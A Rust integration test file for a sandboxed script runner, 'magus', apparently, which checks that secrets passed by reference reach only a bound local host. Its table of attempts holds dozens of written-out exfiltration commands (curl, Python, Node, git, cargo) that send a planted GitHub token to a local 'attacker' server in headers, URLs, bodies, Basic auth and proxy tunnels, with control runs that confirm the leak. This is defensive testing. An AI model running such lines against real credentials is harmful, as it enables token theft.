//! Secrets by reference through the real `magus` binary, as root and as
//! uid 65534 (docs/secrets.md): two local HTTPS servers under a test CA of
//! their own (magus trusts it through `SSL_CERT_FILE`), one standing in
//! for the bound host (`localhost`), one for an attacker's (`127.0.0.1`).
//! The bound host gets the real value (Bearer and Basic); the spell and
//! its children only ever see the placeholder; the attacker's server gets
//! neither the value nor (where the proxy can see it) the placeholder;
//! requests outside the rules are refused. Each attack has a control run
//! without magus's secrets that does leak the value.

mod support;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use support::{can_switch_user, capture, open_to_everyone, Harness, RunOutput};

/// The planted value: never in any output, file or request but the bound
/// host's.
const VALUE: &str = "ghp_PLANTEDsecretVALUE0123456789abcdef";

/// An HTTPS (or plain HTTP) server (python3) that logs every request
/// (method, path, headers, Basic credentials decoded, body) to `log`, and
/// answers `AUTH-OK` when its Authorization header is the real value
/// (Bearer or Basic `user:VALUE`), else 401. Under `/api/echo` it sends
/// request headers back in headers of its response: `Idempotency-Key`, as
/// Stripe's API does, and `Authorization` as `X-Echo-Authorization` (and
/// logs what it sent back).
struct Server {
    child: Child,
    port: u16,
    log: PathBuf,
}

const SERVER: &str = r#"
import http.server, ssl, sys, base64, os
cert, key, log, value = sys.argv[1:5]
files = sys.argv[5] if len(sys.argv) > 5 else None
class H(http.server.BaseHTTPRequestHandler):
    def handle_any(self):
        n = int(self.headers.get('Content-Length') or 0)
        body = self.rfile.read(n) if n else b''
        auth = self.headers.get('Authorization') or ''
        decoded = b''
        if auth[:6].lower() == 'basic ':
            decoded = b'Basic-decoded: ' + base64.b64decode(auth[6:] + '==') + b'\n'
        with open(log, 'ab') as f:
            f.write(('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + decoded + body + b'\n----\n')
        basic = 'Basic ' + base64.b64encode(('user:' + value).encode()).decode()
        ok = auth in ('Bearer ' + value, basic, value)
        out = b'AUTH-OK\n' if ok else b'NO-AUTH\n'
        path = os.path.join(files or '', self.path.split('?')[0].lstrip('/'))
        if ok and files and os.path.isfile(path):
            out = open(path, 'rb').read()
        echo = []
        if ok and self.path.startswith('/api/echo'):
            echo = [('X-Echo-Authorization', auth)]
            if self.headers.get('Idempotency-Key'):
                echo.append(('Idempotency-Key', self.headers.get('Idempotency-Key')))
            with open(log, 'ab') as f:
                f.write(('SENT-BACK: %r\n----\n' % echo).encode())
        self.send_response(200 if ok else 401)
        for name, v in echo:
            self.send_header(name, v)
        self.send_header('Content-Length', str(len(out)))
        self.send_header('Connection', 'close')
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_DELETE = handle_any
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
if cert != '-':
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    c.load_cert_chain(cert, key)
    s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

impl Server {
    fn start(dir: &Path, name: &str, ca: &TestCa, san: &str) -> Server {
        Server::serving(dir, name, ca, san, None)
    }

    /// [`Server::start`], answering an authenticated request for a file
    /// under `files` with the file.
    fn serving(dir: &Path, name: &str, ca: &TestCa, san: &str, files: Option<&Path>) -> Server {
        let (cert, key) = ca.leaf(dir, name, san);
        Server::spawn(dir, name, [cert.as_os_str(), key.as_os_str()], files)
    }

    /// The same server over plain HTTP: a request through the proxy is
    /// then one the proxy reads whole (head, URL and body), whatever host
    /// it is for.
    fn plain(dir: &Path, name: &str) -> Server {
        Server::spawn(dir, name, ["-".as_ref(), "-".as_ref()], None)
    }

    fn spawn(dir: &Path, name: &str, tls: [&std::ffi::OsStr; 2], files: Option<&Path>) -> Server {
        let log = dir.join(format!("{name}.log"));
        std::fs::write(&log, "").unwrap();
        let mut child = Command::new("python3")
            .args(["-c", SERVER])
            .args(tls)
            .arg(&log)
            .arg(VALUE)
            .args(files)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 for the test servers");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().expect("the server's port");
        Server { child, port, log }
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn clear(&self) {
        std::fs::write(&self.log, "").unwrap();
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The test servers' own CA.
struct TestCa {
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
    pem: PathBuf,
}

impl TestCa {
    fn new(dir: &Path) -> TestCa {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "magus test CA");
        params.key_usages = vec![rcgen::KeyUsagePurpose::KeyCertSign];
        let cert = params.self_signed(&key).unwrap();
        let pem = dir.join("test-ca.pem");
        std::fs::write(&pem, cert.pem()).unwrap();
        TestCa {
            issuer: rcgen::Issuer::new(params, key),
            pem,
        }
    }

    fn leaf(&self, dir: &Path, name: &str, san: &str) -> (PathBuf, PathBuf) {
        let key = rcgen::KeyPair::generate().unwrap();
        let params = rcgen::CertificateParams::new(vec![san.to_string()]).unwrap();
        let cert = params.signed_by(&key, &self.issuer).unwrap();
        let (c, k) = (
            dir.join(format!("{name}.crt")),
            dir.join(format!("{name}.key")),
        );
        std::fs::write(&c, cert.pem()).unwrap();
        std::fs::write(&k, key.serialize_pem()).unwrap();
        (c, k)
    }
}

/// Who runs magus.
#[derive(Debug, Clone, Copy, PartialEq)]
enum User {
    Caller,
    Nobody,
}

fn users() -> Vec<User> {
    if can_switch_user() {
        vec![User::Caller, User::Nobody]
    } else {
        eprintln!("uid 65534 part skipped: not root, or no setpriv");
        vec![User::Caller]
    }
}

/// Runs `probe.sh`, after saying what `env.get` gives the spell.
const SPELL: &str = "import \"std\";\nimport \"env\";\nimport \"sh\";\nfun main(args: [str]) > int {\n    std.print(\"ENV.GET {env.get(\"GITHUB_TOKEN\") ?? \"null\"}\");\n    return sh.run([\"/bin/sh\", \"probe.sh\"]);\n}\n";

/// The config: the spell `probe` with `GITHUB_TOKEN` bound to the bound
/// server, GET and POST under `/api/` only; the attacker's address is a
/// listed host (so only the secret's rules stop the placeholder).
fn config(bound: u16, attacker: u16) -> String {
    format!(
        "sandbox:\n  enabled: true\n  network:\n    hosts: [\"127.0.0.1:{attacker}\"]\nspells:\n  probe:\n    network: {{hosts: [\"localhost:{bound}\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{env: MAGUS_TEST_TOKEN}}\n        hosts: [\"localhost:{bound}\"]\n        rules: [{{methods: [GET, POST], paths: [\"/api/*\"]}}]\n"
    )
}

/// `magus --message-format json run probe` as `user`, with the value in
/// magus's environment and the test CA as its roots.
fn run(h: &Harness, user: User, ca: &Path) -> RunOutput {
    open_to_everyone(&h.root);
    run_as_is(h, user, ca)
}

/// `magus` as `user`, with the harness's fake `HOME`.
fn magus_as(h: &Harness, user: User) -> std::process::Command {
    match user {
        User::Caller => h.command(),
        User::Nobody => h.command_as_nobody(),
    }
}

/// [`run`] with the harness's permissions as they are.
fn run_as_is(h: &Harness, user: User, ca: &Path) -> RunOutput {
    let mut cmd = magus_as(h, user);
    cmd.env("MAGUS_TEST_TOKEN", VALUE)
        .env("SSL_CERT_FILE", ca)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["--message-format", "json", "run", "probe"]);
    capture(&mut cmd)
}

fn harness(config: &str, script: &str) -> Harness {
    let h = Harness::with_config(config);
    h.write_spell("probe", SPELL);
    std::fs::write(h.ws_path("probe.sh"), script).unwrap();
    h
}

fn assert_value_nowhere(h: &Harness, out: &RunOutput, who: User) {
    for (what, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !text.contains(VALUE),
            "{who:?}: the value in {what}: {}",
            out.dump()
        );
    }
    for file in support::regular_files(&h.ws) {
        let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap_or_default()).to_string();
        assert!(
            !text.contains(VALUE),
            "{who:?}: the value in {}",
            file.display()
        );
    }
}

/// `out`'s stdout holds `text`.
fn assert_printed(out: &RunOutput, who: User, text: &str) {
    assert!(
        out.stdout.contains(text),
        "{who:?}: no `{text}` in stdout: {}",
        out.dump()
    );
}

fn codes(stderr: &str) -> Vec<String> {
    stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["code"].as_str().map(str::to_string))
        .collect()
}

#[test]
fn the_bound_host_gets_the_value_and_the_spell_only_the_placeholder() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let script = format!(
        "echo \"SEEN=$GITHUB_TOKEN\"\n\
         grep -c PLANTED /proc/self/environ || true\n\
         env | grep -E '^(SSL_CERT_FILE|CURL_CA_BUNDLE|NODE_EXTRA_CA_CERTS)=' | sort\n\
         curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/bearer\n\
         curl -sS --max-time 10 -u \"user:$GITHUB_TOKEN\" https://localhost:{b}/api/basic\n\
         /usr/bin/python3 -c 'import os,urllib.request as u; r=u.Request(\"https://localhost:{b}/api/py\", headers={{\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}}); print(u.urlopen(r).read().decode().strip(), \"py\")'\n\
         git -c http.extraHeader=\"Authorization: Bearer $GITHUB_TOKEN\" ls-remote https://localhost:{b}/api/repo.git >/dev/null 2>&1; echo GIT-DONE\n\
         echo \"ENVIRONS $(cat /proc/[0-9]*/environ 2>/dev/null | grep -c PLANTED)\"\n\
         echo END\n",
        b = bound.port
    );
    for user in users() {
        bound.clear();
        let h = harness(&config(bound.port, attacker.port), &script);
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        assert_printed(&out, user, "ENV.GET magus-secret-");
        assert_printed(&out, user, "SEEN=magus-secret-");
        assert_printed(&out, user, "\n0\n");
        assert!(
            out.stdout
                .contains("SSL_CERT_FILE=/tmp/magus-secrets-ca.pem"),
            "{}",
            out.dump()
        );
        assert_eq!(
            out.stdout.matches("AUTH-OK").count(),
            3,
            "{user:?}: {}",
            out.dump()
        );
        assert_printed(&out, user, "AUTH-OK py");
        let log = bound.log();
        // Bearer three times (curl, Python, git) as is; Basic as base64,
        // checked by the server (its third AUTH-OK) and logged decoded.
        assert!(log.contains("User-Agent: git/"), "{user:?}: {log}");
        assert!(
            log.contains(&format!("Basic-decoded: user:{VALUE}")),
            "{user:?}: {log}"
        );
        assert_printed(&out, user, "ENVIRONS 0\n");
        assert_eq!(
            log.matches(VALUE).count(),
            4,
            "{user:?}: the bound host's log: {log}"
        );
        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
        assert_value_nowhere(&h, &out, user);
        assert!(attacker.log().is_empty());
    }
}

/// Where undici is (`.ci/run` installs it there): Node 20's own `fetch`
/// ignores `HTTPS_PROXY`, and undici's `EnvHttpProxyAgent` as its global
/// dispatcher is how a Node program makes it use the proxy.
fn undici() -> Option<PathBuf> {
    let root = std::env::var_os("MAGUS_UNDICI")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| Path::new(&h).join(".cache/magus-undici")))?;
    let module = root.join("node_modules/undici");
    module.join("package.json").is_file().then_some(module)
}

/// Python's `requests` and Node's `fetch` authenticate to the bound host
/// with the real value, while they only ever hold the placeholder.
#[test]
fn requests_and_node_fetch_authenticate_with_the_value() {
    let module = undici().unwrap_or_else(|| {
        panic!("undici is not installed: run .ci/run's npm line (MAGUS_UNDICI)")
    });
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let script = format!(
        "/usr/bin/python3 -c 'import os,requests; r=requests.get(\"https://localhost:{b}/api/requests\", headers={{\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}}); print(r.text.strip(), \"requests\", os.environ[\"GITHUB_TOKEN\"][:13])'\n\
         node -e 'const u=require(\"./node_modules/undici\"); u.setGlobalDispatcher(new u.EnvHttpProxyAgent()); fetch(\"https://localhost:{b}/api/node\", {{headers: {{Authorization: \"Bearer \"+process.env.GITHUB_TOKEN}}}}).then(r => r.text()).then(t => console.log(t.trim(), \"node\", process.env.GITHUB_TOKEN.slice(0, 13)), e => console.log(\"NODE-ERR\", e.cause || e))'\n\
         echo END\n",
        b = bound.port
    );
    for user in users() {
        bound.clear();
        let h = harness(&config(bound.port, attacker.port), &script);
        std::fs::create_dir(h.ws_path("node_modules")).unwrap();
        let copied = Command::new("cp")
            .arg("-r")
            .arg(&module)
            .arg(h.ws_path("node_modules/undici"))
            .status()
            .unwrap();
        assert!(copied.success(), "cp of undici");
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        for client in ["requests", "node"] {
            assert!(
                out.stdout
                    .contains(&format!("AUTH-OK {client} magus-secret-")),
                "{user:?}: {client}: {}",
                out.dump()
            );
        }
        let log = bound.log();
        assert!(log.contains("python-requests/"), "{user:?}: {log}");
        assert!(log.contains("/api/node"), "{user:?}: {log}");
        assert_eq!(
            log.matches(VALUE).count(),
            2,
            "{user:?}: the bound host's log: {log}"
        );
        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
        assert_value_nowhere(&h, &out, user);
        assert!(attacker.log().is_empty());
    }
}

/// A sparse registry under `root/api/registry` holding the crate `foo`
/// 0.1.0 (index, `.crate`, `config.json` with `auth-required`), served
/// from the bound host at `port`.
fn stage_registry(root: &Path, port: u16) {
    use sha2::Digest;
    let reg = root.join("api/registry");
    let src = root.join("foo-0.1.0");
    std::fs::create_dir_all(src.join("src")).unwrap();
    std::fs::write(
        src.join("Cargo.toml"),
        "[package]\nname = \"foo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(src.join("src/lib.rs"), "pub fn foo() {}\n").unwrap();
    let dl = reg.join("dl/foo/0.1.0");
    std::fs::create_dir_all(&dl).unwrap();
    let made = Command::new("tar")
        .arg("-czf")
        .arg(dl.join("download"))
        .arg("-C")
        .arg(root)
        .arg("foo-0.1.0")
        .status()
        .unwrap();
    assert!(made.success(), "tar of the crate");
    let cksum = sha2::Sha256::digest(std::fs::read(dl.join("download")).unwrap());
    let cksum: String = cksum.iter().map(|b| format!("{b:02x}")).collect();
    std::fs::create_dir_all(reg.join("3/f")).unwrap();
    std::fs::write(
        reg.join("3/f/foo"),
        format!("{{\"name\":\"foo\",\"vers\":\"0.1.0\",\"deps\":[],\"cksum\":\"{cksum}\",\"features\":{{}},\"yanked\":false,\"v\":2}}\n"),
    )
    .unwrap();
    std::fs::write(
        reg.join("config.json"),
        format!("{{\"dl\":\"https://localhost:{port}/api/registry/dl\",\"auth-required\":true}}"),
    )
    .unwrap();
}

/// `cargo vendor` from a sparse registry on the bound host that requires
/// the token (`auth-required`): cargo sends the placeholder, the registry
/// gets the value, the crate is downloaded (`cargo fetch` would also ask
/// for `rustc`, which is not in the view). cargo is the one running this
/// test ([`install_cargo`]).
#[test]
fn cargo_downloads_from_a_registry_that_needs_the_token() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let files = dir.path().join("files");
    let bound = Server::serving(dir.path(), "bound", &ca, "localhost", Some(&files));
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let b = bound.port;
    stage_registry(&files, b);
    let script = format!(
        "export CARGO_HOME=\"$PWD/cargo-home\" CARGO_REGISTRIES_LOCAL_INDEX=sparse+https://localhost:{b}/api/registry/ CARGO_REGISTRIES_LOCAL_TOKEN=\"$GITHUB_TOKEN\" CARGO_NET_RETRY=0 CARGO_REGISTRIES_LOCAL_CREDENTIAL_PROVIDER=cargo:token\n\
         cd app && \"$CARGO_BIN\" vendor --versioned-dirs >/dev/null && echo CARGO-FETCHED\n\
         test -f \"$CARGO_HOME\"/registry/cache/*/foo-0.1.0.crate && echo CRATE-THERE\n"
    );
    for user in users() {
        bound.clear();
        let h = harness("sandbox:\n  enabled: true\n", &script);
        let cargo = install_cargo(&h);
        std::fs::write(
            h.ws_path("probe.sh"),
            script.replace("\"$CARGO_BIN\"", &cargo.display().to_string()),
        )
        .unwrap();
        h.write_config(&granting(
            &config(b, attacker.port),
            cargo.parent().unwrap(),
        ));
        std::fs::create_dir_all(h.ws_path("app/src")).unwrap();
        std::fs::write(
            h.ws_path("app/Cargo.toml"),
            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfoo = { version = \"0.1\", registry = \"local\" }\n",
        )
        .unwrap();
        std::fs::write(h.ws_path("app/src/main.rs"), "fn main() {}\n").unwrap();
        open_to_everyone(&h.root);
        executable(&cargo);
        let out = run_as_is(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        assert_printed(&out, user, "CARGO-FETCHED");
        assert_printed(&out, user, "CRATE-THERE");
        let log = bound.log();
        assert!(log.contains("User-Agent: cargo"), "{user:?}: {log}");
        assert!(
            log.contains(&format!("Authorization: {VALUE}")),
            "{user:?}: the registry got the token: {log}"
        );
        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
        // The workspace holds cargo's caches and the crate now: none of it
        // has the value.
        assert_value_nowhere(&h, &out, user);
        assert!(attacker.log().is_empty());
    }
}

/// A client a spell might use to carry its token out, and how it puts the
/// placeholder in a header, the URL and the body (where it can) of a
/// request to `$U`, the attacker's URL for that attempt.
struct Exfil {
    client: &'static str,
    /// Why the client cannot run here; it is then skipped, saying so.
    absent: fn() -> Option<String>,
    /// Each attempt: its name and the shell line that makes it.
    attempts: &'static [(&'static str, &'static str)],
}

const EXFILS: &[Exfil] = &[
    Exfil {
        client: "curl",
        absent: || tool_absent("curl", &["--version"]),
        attempts: &[
            ("header", "curl -sS --max-time 10 -o /dev/null -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
            ("url", "curl -sS --max-time 10 -o /dev/null \"$U?t=$GITHUB_TOKEN\""),
            ("body", "curl -sS --max-time 10 -o /dev/null -d \"t=$GITHUB_TOKEN\" \"$U\""),
            ("basic", "curl -sS --max-time 10 -o /dev/null -u \"user:$GITHUB_TOKEN\" \"$U\""),
            // The same request through a `CONNECT` tunnel and through
            // SOCKS5 (direct in the control, where no proxy is set).
            ("tunnel", "curl -sS --max-time 10 -o /dev/null -p -x \"$HTTP_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
            ("socks", "curl -sS --max-time 10 -o /dev/null -x \"$ALL_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
        ],
    },
    Exfil {
        client: "urllib",
        absent: || tool_absent("/usr/bin/python3", &["-c", "import urllib.request"]),
        attempts: &[
            ("header", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(u.Request(os.environ[\"U\"], headers={\"X-T\": os.environ[\"GITHUB_TOKEN\"]}), timeout=10)'"),
            ("url", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(os.environ[\"U\"] + \"?t=\" + os.environ[\"GITHUB_TOKEN\"], timeout=10)'"),
            ("body", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(os.environ[\"U\"], data=(\"t=\" + os.environ[\"GITHUB_TOKEN\"]).encode(), timeout=10)'"),
        ],
    },
    Exfil {
        client: "requests",
        absent: || tool_absent("/usr/bin/python3", &["-c", "import requests"]),
        attempts: &[
            ("header", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], headers={\"X-T\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
            ("url", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], params={\"t\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
            ("body", "/usr/bin/python3 -c 'import os, requests; requests.post(os.environ[\"U\"], data={\"t\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
            ("basic", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], auth=(\"user\", os.environ[\"GITHUB_TOKEN\"]), timeout=10)'"),
        ],
    },
    Exfil {
        client: "node",
        absent: || match tool_absent("node", &["--version"]) {
            None if undici().is_none() => Some("undici is not installed (MAGUS_UNDICI)".into()),
            other => other,
        },
        attempts: &[
            ("header", "node -e \"$NODE\" '{\"headers\": {\"X-T\": \"'\"$GITHUB_TOKEN\"'\"}}' \"$U\""),
            ("url", "node -e \"$NODE\" '{}' \"$U?t=$GITHUB_TOKEN\""),
            ("body", "node -e \"$NODE\" '{\"method\": \"POST\", \"body\": \"t='\"$GITHUB_TOKEN\"'\"}' \"$U\""),
        ],
    },
    Exfil {
        client: "git",
        absent: || tool_absent("git", &["--version"]),
        // A body (protocol v2's `ls-refs`) follows a first request that
        // carries nothing, so git's attempts are the head's.
        attempts: &[
            ("header", "git -c http.extraHeader=\"X-T: $GITHUB_TOKEN\" ls-remote \"$U/repo.git\""),
            ("url", "git ls-remote \"$U/$GITHUB_TOKEN.git\""),
            ("basic", "git -c http.proactiveAuth=basic ls-remote \"http://user:$GITHUB_TOKEN@${U#http://}/repo.git\""),
        ],
    },
    Exfil {
        client: "cargo",
        absent: || match std::env::var_os("CARGO") {
            None => Some("CARGO is not set (not run by cargo)".into()),
            Some(_) => None,
        },
        // A sparse index on the attacker's host: the placeholder in its
        // URL, or in the `User-Agent` every cargo request carries. (A
        // registry token goes only after `config.json` answered 401, so
        // that first request would reach the host holding nothing.)
        attempts: &[
            ("header", "cd app && CARGO_REGISTRIES_EVIL_INDEX=\"sparse+$U/\" CARGO_HTTP_USER_AGENT=\"$GITHUB_TOKEN\" \"$CARGO_BIN\" generate-lockfile"),
            ("url", "cd app && CARGO_REGISTRIES_EVIL_INDEX=\"sparse+$U/$GITHUB_TOKEN/\" \"$CARGO_BIN\" generate-lockfile"),
        ],
    },
];

/// Node's `fetch` through undici's `EnvHttpProxyAgent` (see [`undici`]):
/// the options (JSON) and URL are its arguments.
const NODE_FETCH: &str = "const u = require(process.cwd() + '/node_modules/undici'); u.setGlobalDispatcher(new u.EnvHttpProxyAgent()); fetch(process.argv[2], JSON.parse(process.argv[1])).then(r => console.log('NODE', r.status), e => console.log('NODE-ERR', String(e.cause || e)))";

/// `None` when `tool args` runs and succeeds, else why not.
fn tool_absent(tool: &str, args: &[&str]) -> Option<String> {
    match Command::new(tool).args(args).output() {
        Ok(out) if out.status.success() => None,
        Ok(out) => Some(format!(
            "`{tool} {}` failed: {}",
            args.join(" "),
            out.status
        )),
        Err(e) => Some(format!("no `{tool}`: {e}")),
    }
}

/// The spell for `exfil`: one `sh.run` per attempt (so each refusal is
/// said at its own line), each running `attempt.sh NAME`.
fn exfil_spell(exfil: &Exfil) -> String {
    let runs: String = exfil
        .attempts
        .iter()
        .map(|(name, _)| format!("    sh.run([\"/bin/sh\", \"attempt.sh\", \"{name}\"]);\n"))
        .collect();
    format!("import \"sh\";\nfun main(args: [str]) > int {{\n{runs}    return 0;\n}}\n")
}

/// `attempt.sh`: sets `$U` to the attacker's URL for the attempt named
/// `$1` (a path naming the client and attempt), runs its line, and says
/// it ran.
fn exfil_script(exfil: &Exfil, attacker: u16) -> String {
    let cases: String = exfil
        .attempts
        .iter()
        .map(|(name, line)| format!("  {name}) {line} ;;\n"))
        .collect();
    format!(
        "export U=\"http://127.0.0.1:{attacker}/x-{client}-$1\" GIT_TERMINAL_PROMPT=0 CARGO_HOME=\"$PWD/cargo-home\" CARGO_NET_RETRY=0\n\
         case \"$1\" in\n{cases}esac\n\
         echo \"RAN {client}-$1 $?\"\n",
        client = exfil.client
    )
}

/// A workspace for `exfil`'s spell against `attacker`, under `config`,
/// with what its client needs (undici; a cargo project and cargo itself,
/// outside the workspace and granted).
fn exfil_harness(exfil: &Exfil, config: &str, attacker: u16) -> Harness {
    let h = Harness::with_config(config);
    h.write_spell("probe", &exfil_spell(exfil));
    let mut script = exfil_script(exfil, attacker);
    match exfil.client {
        "node" => {
            let module = undici().expect("checked by `absent`");
            std::fs::create_dir(h.ws_path("node_modules")).unwrap();
            copy_dir(&module, &h.ws_path("node_modules/undici"));
            script = format!("NODE={}\n{script}", shell_quoted(NODE_FETCH));
        }
        "cargo" => {
            let cargo = install_cargo(&h);
            h.write_config(&granting(config, cargo.parent().unwrap()));
            script = script.replace("$CARGO_BIN", &cargo.display().to_string());
            std::fs::create_dir_all(h.ws_path("app/src")).unwrap();
            std::fs::write(
                h.ws_path("app/Cargo.toml"),
                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfoo = { version = \"0.1\", registry = \"evil\" }\n",
            )
            .unwrap();
            std::fs::write(h.ws_path("app/src/main.rs"), "fn main() {}\n").unwrap();
        }
        _ => {}
    }
    std::fs::write(h.ws_path("attempt.sh"), script).unwrap();
    open_to_everyone(&h.root);
    executable(&h.root.join("tools/cargo"));
    h
}

fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn copy_dir(from: &Path, to: &Path) {
    let copied = Command::new("cp")
        .arg("-r")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(copied.success(), "cp -r {}", from.display());
}

/// The cargo running this test (`CARGO`), copied outside the workspace
/// (whose files children may not execute; the toolchain under `/root` is
/// outside the view and closed to uid 65534).
fn install_cargo(h: &Harness) -> PathBuf {
    let cargo = PathBuf::from(std::env::var_os("CARGO").expect("cargo runs the tests"));
    let tools = h.root.join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::fs::copy(&cargo, tools.join("cargo")).unwrap();
    tools.join("cargo")
}

/// `config` with `dir` granted read-only.
fn granting(config: &str, dir: &Path) -> String {
    let allow = format!(
        "  allow:\n    - path: {:?}\n      mode: ro\n",
        dir.display().to_string()
    );
    config.replacen(
        "sandbox:\n  enabled: true\n",
        &format!("sandbox:\n  enabled: true\n{allow}"),
        1,
    )
}

/// Makes `file`, if there, executable by everyone (after
/// [`open_to_everyone`], which is not).
fn executable(file: &Path) {
    use std::os::unix::fs::PermissionsExt;
    if file.is_file() {
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

/// The attacker's log entry for `client`'s attempt `name`, if it got one.
fn logged<'l>(log: &'l str, client: &str, name: &str) -> Option<&'l str> {
    let path = format!(" /x-{client}-{name}");
    log.split("\n----\n")
        .find(|entry| entry.lines().next().is_some_and(|l| l.contains(&path)))
}

/// Every client, header, URL and body: the placeholder sent to the
/// attacker's server (a listed host, plain HTTP, so the proxy reads the
/// whole request) is refused, MGS2013 is said at each attempt's line, and
/// the attacker's server receives no request at all. The control, the
/// sandbox off and the value in the environment: every attempt reaches
/// the attacker with the value.
#[test]
fn every_client_sending_the_placeholder_elsewhere_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let attacker = Server::plain(dir.path(), "attacker");
    let a = attacker.port;
    for exfil in EXFILS {
        let client = exfil.client;
        if let Some(why) = (exfil.absent)() {
            eprintln!("SKIPPED {client}: {why}");
            continue;
        }
        for user in users() {
            attacker.clear();
            let h = exfil_harness(exfil, &config(1, a), a);
            let out = run_as_is(&h, user, &ca.pem);
            assert_eq!(out.status, Some(0), "{client} {user:?}: {}", out.dump());
            for (name, _) in exfil.attempts {
                assert_printed(&out, user, &format!("RAN {client}-{name} "));
            }
            let log = attacker.log();
            assert!(log.is_empty(), "{client} {user:?}: the attacker got: {log}");
            assert!(!log.contains("magus-secret-") && !log.contains(VALUE));
            let refused = codes(&out.stderr)
                .iter()
                .filter(|c| *c == "MGS2013")
                .count();
            assert_eq!(
                refused,
                exfil.attempts.len(),
                "{client} {user:?}: one MGS2013 per attempt: {}",
                out.dump()
            );
            assert_value_nowhere(&h, &out, user);
        }
        // The control.
        attacker.clear();
        let h = exfil_harness(exfil, "sandbox:\n  enabled: false\n", a);
        let mut cmd = h.command();
        cmd.env("GITHUB_TOKEN", VALUE)
            .arg("--workspace")
            .arg(&h.ws)
            .args(["run", "probe"]);
        let out = capture(&mut cmd);
        let log = attacker.log();
        for (name, _) in exfil.attempts {
            let entry = logged(&log, client, name);
            assert!(
                entry.is_some_and(|e| e.contains(VALUE)),
                "control: {client} {name} reaches the attacker with the value: {log}\n{}",
                out.dump()
            );
        }
    }
}

#[test]
fn the_placeholder_goes_nowhere_else_and_rules_hold() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let (b, a) = (bound.port, attacker.port);
    let c = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n'";
    let script = format!(
        "{c} http://127.0.0.1:{a}/?t=$GITHUB_TOKEN\n\
         {c} -H \"X-T: $GITHUB_TOKEN\" http://127.0.0.1:{a}/\n\
         {c} -d \"t=$GITHUB_TOKEN\" http://127.0.0.1:{a}/\n\
         {c} https://$GITHUB_TOKEN.localhost:{a}/\n\
         {c} -X DELETE -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/x\n\
